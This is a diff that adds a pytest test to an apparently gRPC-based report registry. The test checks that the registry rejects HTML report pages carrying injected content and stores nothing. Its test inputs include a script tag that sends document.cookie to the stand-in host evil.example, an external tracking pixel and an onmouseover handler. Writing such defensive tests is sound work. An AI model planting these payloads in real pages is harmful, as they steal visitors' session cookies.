@@ -164,3 +164,25 @@ def test_the_registry_refuses_an_oversized_page_and_stores_nothing(platform, aud
         with pytest.raises(grpc.RpcError) as err:
             client.registry.GetReportPage(registry_pb2.GetReportRequest(), timeout=10)
         assert err.value.code() == grpc.StatusCode.INVALID_ARGUMENT
+
+
+def test_the_registry_refuses_a_page_that_would_run_or_fetch_and_stores_nothing(platform, audited):
+    """A writer key (or a worker's credential) cannot store a page that runs a script in the
+    browser of the teammate who opens it: only what lambdascope's renderer writes is kept."""
+    report, _ = audited
+    with platform.client() as client:
+        stored = client.get_report(report["id"])
+        page = client.get_report_page(stored.id)
+        before = len(list(client.list_reports(stored.model_version_id)))
+        bare = audit_pb2.AuditReport()
+        bare.CopyFrom(stored)
+        bare.id = ""
+        for hostile, says in (("<script>fetch('https://evil.example/?'+document.cookie)</script>", "<script>"),
+                              ('<img src="https://evil.example/pixel.png">', "inline PNG"),
+                              ('<p onmouseover="alert(1)">hover</p>', "onmouseover")):
+            with pytest.raises(grpc.RpcError) as err:
+                client.put_report(bare, page.replace(b"<body>", b"<body>" + hostile.encode(), 1))
+            assert err.value.code() == grpc.StatusCode.INVALID_ARGUMENT and says in err.value.details()
+        assert len(list(client.list_reports(stored.model_version_id))) == before
+        kept = client.put_report(bare, page)  # the page the estimator wrote passes as it is
+        assert client.get_report_page(kept.id) == page
